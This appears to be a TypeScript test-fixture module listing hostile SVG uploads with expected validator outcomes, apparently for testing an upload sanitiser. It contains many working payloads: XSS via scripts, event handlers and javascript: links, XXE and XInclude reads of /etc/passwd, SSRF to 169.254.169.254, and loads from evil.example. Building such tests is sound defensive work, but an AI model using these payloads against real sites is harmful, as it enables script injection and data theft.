import { gzipSync } from "node:zlib"
import { type HostileFile, PAGE, SVG, shape, svg, text } from "./hostile-parts"

const scripts: [string, string][] = [
  ["a script", "<script>alert(1)</script>"],
  ["a script in another namespace", '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'],
  ["a script in capitals", "<SCRIPT>alert(1)</SCRIPT>"],
  ["a script in CDATA", "<script><![CDATA[alert(1)]]></script>"],
  ["an event handler", '<rect width="1" height="1" onload="alert(1)"/>'],
  ["an event handler in capitals", '<rect width="1" height="1" onClick="alert(1)"/>'],
  [
    "a foreign object",
    `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${PAGE}</body></foreignObject>`,
  ],
  ["an iframe", '<iframe src="javascript:alert(1)"/>'],
  ["a link", '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>'],
  ["an old link", '<a xlink:href="javascript:alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink">x</a>'],
  ["an animated link", '<a><animate attributeName="href" values="javascript:alert(1)"/><rect/></a>'],
  ["a set attribute", '<rect><set attributeName="onmouseover" to="alert(1)"/></rect>'],
  ["an external picture", '<image href="http://169.254.169.254/latest/meta-data"/>'],
  ["a local file", '<image href="file:///etc/passwd"/>'],
  ["a picture with a script", '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'],
  ["an external use", '<use href="http://evil.example/x.svg#a"/>'],
  ["a page as an address", '<use href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>'],
  ["an imported style", '<style>@import "http://evil.example/x.css";</style>'],
  ["an escaped style", "<style>.a{background:\\75rl(http://evil.example)}</style>"],
  ["a style that ends", "<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>"],
  ["a style with an address", '<rect style="background:url(http://evil.example)"/>'],
  ["a processing instruction", '<?xml-stylesheet href="http://evil.example/x.xsl"?>'],
  ["an embedded object", '<embed src="http://evil.example"/><object data="x"/>'],
  ["a handler", '<handler type="text/javascript">alert(1)</handler>'],
  ["a base address", '<g xml:base="javascript:alert(1)//"><a href="#x"/></g>'],
  ["a script with an address", '<script href="http://evil.example/x.js"/>'],
  ["a script in a nested SVG", '<svg onload="alert(1)"><script>alert(1)</script></svg>'],
  ["a foreign object in capitals", `<FOREIGNOBJECT>${PAGE}</FOREIGNOBJECT>`],
  ["a foreign object in a switch", `<switch><foreignObject>${PAGE}</foreignObject></switch>`],
  [
    "elements of HTML",
    '<h:g xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script><h:img src="x" onerror="alert(1)"/></h:g>',
  ],
  [
    "a page that moves on",
    '<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=http://evil.example"/>',
  ],
  [
    "a link to a style",
    '<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="http://evil.example/x.css"/>',
  ],
  [
    "a formula with a link",
    '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)">x</math>',
  ],
  ["a link with a tab", '<a href="java&#x09;script:alert(1)"><rect width="9" height="9"/></a>'],
  ["a link in entities", '<a href="&#x6A;avascript&colon;alert(1)"><rect width="9" height="9"/></a>'],
  ["an animation that begins a script", '<animateTransform attributeName="transform" onbegin="alert(1)"/>'],
  [
    "a filter with an external picture",
    '<filter id="f"><feImage href="http://evil.example/x.png"/></filter>',
  ],
  [
    "a filter with a picture with a script",
    '<feImage href="data:image/svg+xml,&lt;svg onload=&quot;alert(1)&quot;/&gt;"/>',
  ],
  ["an external fill", '<rect width="9" height="9" fill="url(http://evil.example/x.svg#a)"/>'],
  [
    "an external mask",
    '<rect width="9" height="9" mask="url(\'data:image/svg+xml,x#a\')" onfocus="alert(1)"/>',
  ],
  ["an external font", "<style>@font-face{font-family:x;src:url(http://evil.example/x.woff)}</style>"],
  ["a font by its address", '<font-face-uri href="http://evil.example/x.svg#f"/>'],
  ["a style with a set of pictures", '<style>*{background:image-set("http://evil.example/x" 1x)}</style>'],
  ["a style whose CDATA ends it", "<style><![CDATA[</style><script>alert(1)</script>]]></style>"],
  ["a title whose CDATA ends it", "<title><![CDATA[</title><script>alert(1)</script>]]></title>"],
  ["a comment that HTML ends early", "<!--><script>alert(1)</script>-->"],
  ["a text that ends an attribute", `<text x='"><script>alert(1)</script>'>a</text>`],
  [
    "an included file",
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
  ],
  ["metadata with a script", "<metadata><script>alert(1)</script></metadata>"],
]

/** SVG files that try to run, load or link something. */
export const SVGS: readonly HostileFile[] = [
  ...scripts.map(
    ([what, inside]): HostileFile => ({
      what: `an SVG with ${what}`,
      name: "logo.svg",
      answer: "image/svg+xml",
      file: () => svg(shape + inside),
    }),
  ),
  {
    what: "an SVG with an event handler on its root",
    name: "a.svg",
    file: () => svg(shape, ' onload="alert(1)"'),
    answer: "image/svg+xml",
  },
  {
    what: "an SVG with entities",
    name: "a.svg",
    file: text(
      `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;">]><svg xmlns="${SVG}"><text>&b;</text></svg>`,
    ),
    answer: "invalid_field",
  },
  {
    what: "an SVG with an external entity",
    name: "a.svg",
    file: text(
      `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="${SVG}"><text>&a;</text></svg>`,
    ),
    answer: "invalid_field",
  },
  {
    what: "an SVG with zero bytes",
    name: "a.svg",
    file: () => svg(`${shape}\0<script/>`),
    answer: "invalid_field",
  },
  {
    what: "an SVG in UTF-16",
    name: "a.svg",
    file: () => Buffer.from(`\uFEFF<svg xmlns="${SVG}"/>`, "utf16le"),
    answer: "invalid_field",
  },
  { what: "a compressed SVG", name: "a.svgz", file: () => gzipSync(svg(shape)), answer: "invalid_field" },
  {
    what: "an SVG without an end",
    name: "a.svg",
    file: text(`<svg xmlns="${SVG}" width="4" height="4"><g><rect`),
    answer: "image/svg+xml",
  },
  {
    what: "an SVG with a parameter entity",
    name: "a.svg",
    file: text(`<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/x.dtd">%a;]><svg xmlns="${SVG}"/>`),
    answer: "invalid_field",
  },
  {
    what: "an SVG with an external document type",
    name: "a.svg",
    file: text(
      `<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd"><svg xmlns="${SVG}" width="4" height="4">${shape}</svg>`,
    ),
    answer: "image/svg+xml",
  },
]
